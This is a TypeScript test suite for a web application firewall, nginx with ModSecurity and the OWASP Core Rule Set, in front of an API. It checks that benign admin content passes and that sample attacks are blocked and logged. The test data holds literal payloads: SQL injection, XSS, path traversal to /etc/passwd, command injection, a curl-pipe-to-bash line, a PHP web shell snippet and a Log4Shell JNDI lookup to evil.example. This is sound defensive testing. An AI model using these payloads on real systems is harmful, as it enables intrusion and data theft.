/**
 * The shipped proxy with its web application firewall — deploy/nginx.conf, ModSecurity and the OWASP
 * Core Rule Set with deploy/waf/ — in front of a real API process (`bun run api/src/index.ts` on a
 * scratch PostgreSQL database): what visitors and the admin do passes untouched, the CRS's sample
 * attacks against API routes are refused with the JSON envelope, logged with their rule ids and
 * counted. Needs nginx-light, libnginx-mod-http-modsecurity and modsecurity-crs (`make test`
 * installs them; a missing one fails with its name).
 */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { existsSync } from 'node:fs'
import { join } from 'node:path'
import { createScratchDatabase } from '../api/test/harness.ts'
import { type Instance, startInstance } from '../api/test/scale/instances.ts'
import { type LocalNginx, startNginx } from './nginx-kit.ts'

const ROOT = join(import.meta.dir, '..')
const ADMIN = { email: 'admin@waf.test', password: 'waf-admin-password-0123' }
/** What the blocked page's body says, from the API or (no replica answering) from nginx. */
const BLOCKED_MESSAGE =
  'this request was blocked by the web application firewall; if that is a mistake, tell the site owner the request id'

let scratch: Awaited<ReturnType<typeof createScratchDatabase>>
let api: Instance
let proxy: LocalNginx

/** The site's pages are served from web/dist: build it when this suite runs before anything built it. */
async function ensureSiteBuilt(): Promise<void> {
  if (existsSync(join(ROOT, 'web/dist/index.html'))) return
  const build = Bun.spawn(['bun', 'run', 'build'], { cwd: join(ROOT, 'web'), stdout: 'pipe', stderr: 'pipe' })
  const [out, err, code] = await Promise.all([
    new Response(build.stdout).text(),
    new Response(build.stderr).text(),
    build.exited,
  ])
  if (code !== 0) throw new Error(`the site build failed (exit ${code}):\n${out}\n${err}`)
}

beforeAll(async () => {
  await ensureSiteBuilt()
  scratch = await createScratchDatabase()
  api = await startInstance('waf', {
    APP_ENV: 'test',
    DATABASE_URL: scratch.url,
    JWT_SECRET: 'waf-test-secret-0123456789abcdef0123456789abcdef',
    ADMIN_EMAIL: ADMIN.email,
    ADMIN_PASSWORD: ADMIN.password,
    RUNNERS: 'wasi',
    // nginx is the one trusted hop, as in docker-compose.yml
    TRUST_PROXY_HOPS: '1',
  })
  proxy = await startNginx([`127.0.0.1:${api.port}`])
}, 180_000)

afterAll(async () => {
  await proxy?.stop()
  await api?.stop()
  await scratch?.drop()
})

interface Envelope {
  data: unknown
  error: { code: string; message: string; requestId: string } | null
}

/** A request through the proxy, with JSON and a bearer token made easy. */
function via(path: string, init: RequestInit & { json?: unknown; token?: string } = {}): Promise<Response> {
  const { json, token, ...rest } = init
  const headers = new Headers(rest.headers)
  if (json !== undefined) headers.set('content-type', 'application/json')
  if (token) headers.set('authorization', `Bearer ${token}`)
  return fetch(`${proxy.url}${path}`, { ...rest, headers, body: json !== undefined ? JSON.stringify(json) : rest.body })
}

async function signIn(password = ADMIN.password): Promise<{ accessToken: string; refreshToken: string }> {
  const res = await via('/api/v1/auth/token', { method: 'POST', json: { email: ADMIN.email, password } })
  expect(res.status).toBe(200)
  return ((await res.json()) as { data: { accessToken: string; refreshToken: string } }).data
}

/** Status and (for a refusal) the error code: what a test compares, so a WAF block shows by name. */
async function outcome(res: Response): Promise<{ status: number; code?: string }> {
  const text = await res.text()
  if (res.status < 400) return { status: res.status }
  try {
    return { status: res.status, code: (JSON.parse(text) as Envelope).error?.code }
  } catch {
    return { status: res.status, code: text.slice(0, 80) }
  }
}

/** The audit log's entries (one JSON line each), by request id. */
function auditEntries(): Map<string, { status: number; rules: string[] }> {
  const entries = new Map<string, { status: number; rules: string[] }>()
  const log = proxy.auditLog()
  const lines = log.split('\n')
  // why: the last line may be one nginx is still writing (auditOf polls again until it is whole)
  if (!log.endsWith('\n')) lines.pop()
  for (const line of lines) {
    if (!line.trim()) continue
    const t = (
      JSON.parse(line) as {
        transaction: {
          unique_id: string
          response: { http_code: number }
          messages: { details: { ruleId: string } }[]
        }
      }
    ).transaction
    entries.set(t.unique_id, { status: t.response.http_code, rules: t.messages.map((m) => m.details.ruleId) })
  }
  return entries
}

/** Blocked requests the API counted (its /metrics, read directly: nginx does not expose it). */
async function blockedCount(): Promise<number> {
  const text = await (await fetch(`${api.url}/metrics`)).text()
  const m = /^shellfolio_http_requests_total\{method="GET",route="\/internal\/waf-blocked",status="403"\} (\d+)$/m.exec(
    text,
  )
  return Number(m?.[1] ?? 0)
}

/** Polls until the request's audit line is written (nginx writes it as the request ends), bounded. */
async function auditOf(requestId: string): Promise<{ status: number; rules: string[] }> {
  const deadline = Date.now() + 5_000
  for (;;) {
    const entry = auditEntries().get(requestId)
    if (entry) return entry
    if (Date.now() > deadline)
      throw new Error(`no audit line for request ${requestId}:\n${proxy.auditLog().slice(-2000)}`)
    await Bun.sleep(20) // why: polling a log file with a deadline
  }
}

describe('nginx + ModSecurity (OWASP CRS) in front of the API: no false positive', () => {
  test('the site pages, their assets, the docs and the public API answer as without the WAF', async () => {
    const html = await (await via('/')).text()
    const assets = [...html.matchAll(/(?:src|href)="(\/assets\/[^"]+)"/g)].map((m) => m[1] as string)
    expect(assets.length).toBeGreaterThan(0)
    const paths = [
      '/',
      '/projects',
      '/projects/calc',
      '/blog',
      '/architecture',
      '/admin/posts',
      '/favicon.svg',
      ...assets,
      '/api/docs',
      '/api/openapi.json',
      '/healthz',
      '/readyz',
      '/api/v1/posts?limit=20',
      '/api/v1/projects',
      '/api/v1/projects/calc',
      '/api/v1/flags/evaluated?subject=visitor-1',
      '/embed/calc',
      '/embed.js',
      // A site reached by address: the URL names an IP (exclusion 10030).
      `/oembed?url=${encodeURIComponent(`${proxy.url}/projects/calc`)}&format=json`,
    ]
    const results = await Promise.all(paths.map(async (path) => ({ path, ...(await outcome(await via(path))) })))
    expect(results).toEqual(paths.map((path) => ({ path, status: 200 })))
  }, 60_000)

  test('the admin writes posts full of code, edits every project, flips flags and uploads media', async () => {
    const { accessToken: token } = await signIn()
    const markdown = [
      '# Notes from the sandbox',
      '```sql\nSELECT * FROM users WHERE id = 1 OR 1=1; DROP TABLE posts; --\n```',
      '```sh\ncat /etc/passwd | grep root; curl http://example.com/install.sh | bash; rm -rf ../build\n```',
      '```html\n<script>alert(document.cookie)</script><img src=x onerror=alert(1)>\n```',
      "```php\n<?php system($_GET['cmd']); ?>\n```",
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell lookup quoted in a post, literally
      'Paths like `../../etc/shadow`, templates like `${jndi:ldap://example.com/a}` and `{{7*7}}`.',
      (await Bun.file(join(ROOT, 'README.md')).text()).slice(0, 60_000),
    ].join('\n\n')
    const created = await via('/api/v1/posts', {
      method: 'POST',
      token,
      json: {
        slug: 'waf-notes',
        title: 'SELECT * FROM <b>posts</b>; -- and other "quotes"',
        summary: "It's about `rm -rf /`, 1=1 and <script>",
        markdown,
        tags: ['security', 'sql', 'shell'],
      },
    })
    expect(await outcome(created.clone())).toEqual({ status: 201 })
    const post = ((await created.json()) as { data: { id: string } }).data
    const results: Record<string, { status: number; code?: string }> = {}
    results.patchPost = await outcome(
      await via(`/api/v1/posts/${post.id}`, {
        method: 'PATCH',
        token,
        json: { markdown: `${markdown}\n\nUPDATE posts SET x = 'y' WHERE 1=1;`, status: 'published' },
      }),
    )
    results.readPost = await outcome(await via('/api/v1/posts/waf-notes'))
    results.deletePost = await outcome(await via(`/api/v1/posts/${post.id}`, { method: 'DELETE', token }))
    results.restorePost = await outcome(await via(`/api/v1/posts/${post.id}/restore`, { method: 'POST', token }))

    // Every seeded project saved back as the admin form does, then with shell-heavy commands.
    const projects = (
      (await (await via('/api/v1/projects?include=deleted', { token })).json()) as {
        data: Record<string, unknown>[]
      }
    ).data
    expect(projects.length).toBeGreaterThan(0)
    for (const p of projects) {
      const { id, slug, title, summary, description, stack, repoUrl, sourcePath, binary, runners, commands, policy } = p
      const body = { title, summary, description, stack, repoUrl, sourcePath, binary, runners, commands, policy }
      results[`patch ${slug}`] = await outcome(
        await via(`/api/v1/projects/${id}`, { method: 'PATCH', token, json: body }),
      )
    }
    results.projectCommands = await outcome(
      await via(`/api/v1/projects/${projects[0]?.id}`, {
        method: 'PATCH',
        token,
        json: {
          description: 'Try `cat /etc/hostname`, then `./calc` and type `1+2*3; SELECT`.',
          commands: ['cat /etc/hostname', 'ls -la ~', 'cd ../life && make', './miniRT scenes/demo.rt > /tmp/out.ppm'],
          policy: { allow: ['./*', 'cat *', 'ls *', 'cd *', 'make *', 'echo *', 'grep *'] },
        },
      }),
    )
    results.flag = await outcome(
      await via('/api/v1/flags/terminal.docker', { method: 'PUT', token, json: { enabled: true } }),
    )

    const png = Buffer.from(
      '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082',
      'hex',
    )
    const upload = async (name: string, bytes: Uint8Array | string, type: string) => {
      const form = new FormData()
      form.append('file', new Blob([bytes], { type }), name)
      return outcome(await via('/api/v1/media', { method: 'POST', token, body: form }))
    }
    results.png = await upload('pixel (1).png', png, 'image/png')
    results.pdf = await upload(
      'paper.pdf',
      Buffer.concat([Buffer.from('%PDF-1.4\n'), crypto.getRandomValues(new Uint8Array(2_000_000))]),
      'application/pdf',
    )
    results.text = await upload('notes.txt', 'SELECT * FROM t; <b>x</b> ../../etc/passwd\n', 'text/plain;charset=utf-8')
    results.media = await outcome(await via('/api/v1/media', { token }))

    expect(results).toEqual({
      patchPost: { status: 200 },
      readPost: { status: 200 },
      deletePost: { status: 200 },
      restorePost: { status: 200 },
      ...Object.fromEntries(projects.map((p) => [`patch ${p.slug}`, { status: 200 }])),
      projectCommands: { status: 200 },
      flag: { status: 200 },
      png: { status: 201 },
      pdf: { status: 201 },
      text: { status: 201 },
      media: { status: 200 },
    })
  }, 60_000)

  test('passwords and tokens are free-form: an injection-looking password signs in; refresh and logout pass', async () => {
    const { accessToken, refreshToken } = await signIn()
    const odd = "p@ss' OR '1'='1 --<script>x</script>"
    const change = await via('/api/v1/auth/password', {
      method: 'POST',
      token: accessToken,
      json: { currentPassword: ADMIN.password, newPassword: odd },
    })
    expect(await outcome(change)).toEqual({ status: 200 })
    const fresh = await signIn(odd)
    const refreshed = await via('/api/v1/auth/refresh', { method: 'POST', json: { refreshToken: fresh.refreshToken } })
    expect(await outcome(refreshed.clone())).toEqual({ status: 200 })
    const pair = ((await refreshed.json()) as { data: { accessToken: string; refreshToken: string } }).data
    // The API's own 403 passes through with its own body (nginx only rewrites the WAF's).
    const wrong = await via('/api/v1/auth/password', {
      method: 'POST',
      token: pair.accessToken,
      json: { currentPassword: 'not-the-password', newPassword: ADMIN.password },
    })
    expect(await outcome(wrong)).toEqual({ status: 403, code: 'WRONG_PASSWORD' })
    const back = await via('/api/v1/auth/password', {
      method: 'POST',
      token: pair.accessToken,
      json: { currentPassword: odd, newPassword: ADMIN.password },
    })
    expect(await outcome(back)).toEqual({ status: 200 })
    const out = await via('/api/v1/auth/logout', { method: 'POST', json: { refreshToken } })
    expect(out.status).toBeLessThan(300)
  }, 60_000)

  test('a terminal WebSocket opens, echoes and resumes through the proxy; the admin lists, kills and replays it', async () => {
    const { accessToken: token } = await signIn()
    const created = await via('/api/v1/terminal/sessions', {
      method: 'POST',
      // An embed on a site reached by address sends its origin (exclusion 10031).
      json: { project: 'calc', runner: 'wasi', origin: 'http://192.0.2.10:8080' },
    })
    expect(created.status).toBe(201)
    const { sessionId, ticket } = ((await created.json()) as { data: { sessionId: string; ticket: string } }).data
    const wsUrl = `${proxy.url.replace('http', 'ws')}/api/v1/terminal/ws`

    const open = (query: string) => {
      const ws = new WebSocket(`${wsUrl}?${query}`)
      ws.binaryType = 'arraybuffer'
      let output = ''
      const controls: Record<string, unknown>[] = []
      ws.onmessage = (e) => {
        if (typeof e.data === 'string') controls.push(JSON.parse(e.data) as Record<string, unknown>)
        else output += new TextDecoder().decode(e.data as ArrayBuffer)
      }
      const until = async (what: string, done: () => boolean) => {
        const deadline = Date.now() + 20_000
        while (!done()) {
          if (Date.now() > deadline)
            throw new Error(`timed out waiting for ${what}; output: ${JSON.stringify(output.slice(-300))}`)
          await Bun.sleep(10) // why: polling the socket's state with a deadline
        }
      }
      return { ws, controls, until, output: () => output }
    }

    const first = open(`ticket=${encodeURIComponent(ticket)}&cols=80&rows=24`)
    await first.until('ready', () => first.controls.some((c) => c.type === 'ready'))
    const ready = first.controls.find((c) => c.type === 'ready') as { resumeToken: string }
    first.ws.send(new TextEncoder().encode('echo through-the-waf\r'))
    await first.until('the echo', () => first.output().includes('through-the-waf\r\n'))
    first.ws.close()

    const again = open(`session=${sessionId}&resume=${encodeURIComponent(ready.resumeToken)}`)
    await again.until('ready after resume', () => again.controls.some((c) => c.type === 'ready'))
    again.ws.send(new TextEncoder().encode('echo resumed\r'))
    await again.until('the echo after resume', () => again.output().includes('resumed\r\n'))

    const list = await via('/api/v1/terminal/sessions', { token })
    expect(list.status).toBe(200)
    expect(((await list.json()) as { data: { id: string }[] }).data.map((s) => s.id)).toContain(sessionId)
    expect((await via(`/api/v1/terminal/sessions/${sessionId}`, { method: 'DELETE', token })).status).toBeLessThan(300)
    await again.until('the exit message', () => again.controls.some((c) => c.type === 'exit'))
    expect(again.controls.find((c) => c.type === 'exit')).toMatchObject({ reason: 'killed' })
    // The recording is stored as the session ends; ask until it is there (bounded).
    const deadline = Date.now() + 10_000
    let recording = await via(`/api/v1/terminal/sessions/${sessionId}/recording`, { token })
    while (recording.status === 404 && Date.now() < deadline) {
      await Bun.sleep(50) // why: polling the store with a deadline
      recording = await via(`/api/v1/terminal/sessions/${sessionId}/recording`, { token })
    }
    expect(recording.status).toBe(200)
    expect(await recording.text()).toContain('through-the-waf')
  }, 60_000)
})

describe('nginx + ModSecurity (OWASP CRS): attacks on API routes', () => {
  /** The CRS's own sample attacks, each against an API route, with the rule expected to catch it. */
  const attacks: { name: string; rule: string; request: () => Promise<Response> }[] = [
    {
      name: 'SQL injection in a query parameter',
      rule: '942100',
      request: () => via("/api/v1/posts?limit=10&tag=1' OR '1'='1' --"),
    },
    {
      name: 'SQL injection (UNION SELECT) in a JSON body',
      rule: '942100',
      request: () =>
        via('/api/v1/terminal/sessions', {
          method: 'POST',
          json: { project: "calc' UNION SELECT password FROM users --", runner: 'wasi' },
        }),
    },
    {
      name: 'SQL injection in the sign-in email',
      rule: '942100',
      request: () =>
        via('/api/v1/auth/token', { method: 'POST', json: { email: "admin' OR 1=1 --", password: 'whatever-1234' } }),
    },
    {
      name: 'XSS in a query parameter',
      rule: '941100',
      request: () => via('/api/v1/flags/evaluated?subject=<script>alert(document.cookie)</script>'),
    },
    {
      name: 'XSS (event handler) in a JSON body',
      rule: '941160',
      request: () =>
        via('/api/v1/terminal/sessions', { method: 'POST', json: { project: '<img src=x onerror=alert(1)>' } }),
    },
    {
      name: 'path traversal in the path',
      rule: '930100',
      request: () => via('/api/v1/media/..%2f..%2f..%2fetc%2fpasswd'),
    },
    {
      name: 'path traversal to a system file in a parameter',
      rule: '930120',
      request: () => via('/api/v1/posts?cursor=x&file=../../../../etc/passwd'),
    },
    {
      name: 'scanner user agent (sqlmap)',
      rule: '913100',
      request: () => via('/api/v1/projects', { headers: { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' } }),
    },
    {
      name: 'scanner user agent (Nikto)',
      rule: '913100',
      request: () =>
        via('/api/v1/posts', { headers: { 'user-agent': 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)' } }),
    },
    {
      name: 'remote command execution in a parameter',
      rule: '932100',
      request: () => via('/api/v1/flags/evaluated?subject=;cat%20/etc/passwd'),
    },
    {
      name: 'Log4Shell-style lookup in a query parameter',
      rule: '932130',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack string itself, literally
      request: () => via('/api/v1/posts?q=${jndi:ldap://evil.example/a}'),
    },
  ]

  test('each is refused with 403 and the JSON envelope, logged with its rule id and counted', async () => {
    const before = await blockedCount()
    const seen: Record<string, unknown> = {}
    const ids: string[] = []
    for (const attack of attacks) {
      const res = await attack.request()
      const body = (await res.json().catch(() => null)) as Envelope | null
      const requestId = res.headers.get('x-request-id') ?? ''
      ids.push(requestId)
      seen[attack.name] = {
        status: res.status,
        contentType: res.headers.get('content-type'),
        error: body?.error,
        data: body?.data,
      }
      expect(seen[attack.name]).toEqual({
        status: 403,
        contentType: 'application/json; charset=utf-8',
        error: { code: 'REQUEST_BLOCKED', message: BLOCKED_MESSAGE, requestId },
        data: null,
      })
      // The audit line of the same request id names the rule that caught it; the block is a 403.
      const entry = await auditOf(requestId)
      expect({ attack: attack.name, status: entry.status, rules: entry.rules }).toMatchObject({
        attack: attack.name,
        status: 403,
        rules: expect.arrayContaining([attack.rule, '949110']),
      })
    }
    // One count per block, in the replica that served the blocked page.
    expect(await blockedCount()).toBe(before + attacks.length)
    // nginx's error log has the deciding rule and the same request ids.
    const errors = proxy.errorLog()
    for (const id of ids) expect(errors).toContain(`[unique_id "${id}"]`)
  }, 60_000)

  test("a client's own request id is kept when it is short and safe, replaced otherwise", async () => {
    const kept = await via("/api/v1/posts?tag=1' OR '1'='1' --", { headers: { 'x-request-id': 'client-trace-42' } })
    expect(((await kept.json()) as Envelope).error?.requestId).toBe('client-trace-42')
    expect((await auditOf('client-trace-42')).status).toBe(403)
    const replaced = await via("/api/v1/posts?tag=1' OR '1'='1' --", {
      headers: { 'x-request-id': 'no spaces or <tags> allowed' },
    })
    const id = ((await replaced.json()) as Envelope).error?.requestId ?? ''
    expect(id).toMatch(/^[0-9a-f]{32}$/)
    expect((await auditOf(id)).status).toBe(403)
  })

  test('the blocked page itself and /metrics cannot be asked for through the proxy', async () => {
    expect((await via('/internal/waf-blocked')).status).toBe(404)
    expect((await via('/metrics')).status).toBe(404)
  })

  test('with no replica answering, a blocked request still gets the envelope (from nginx)', async () => {
    // A port nothing listens on: bind one, read it, release it.
    const probe = Bun.listen({ hostname: '127.0.0.1', port: 0, socket: { data() {} } })
    const deadPort = probe.port
    probe.stop(true)
    await using lonely = await startNginx([`127.0.0.1:${deadPort}`])
    const res = await fetch(`${lonely.url}/api/v1/posts?tag=1'%20OR%20'1'='1'%20--`, {
      headers: { 'x-request-id': 'offline-1' },
    })
    expect({ status: res.status, body: await res.json() }).toEqual({
      status: 403,
      body: {
        data: null,
        meta: null,
        error: { code: 'REQUEST_BLOCKED', message: BLOCKED_MESSAGE, requestId: 'offline-1' },
      },
    })
  }, 30_000)
})
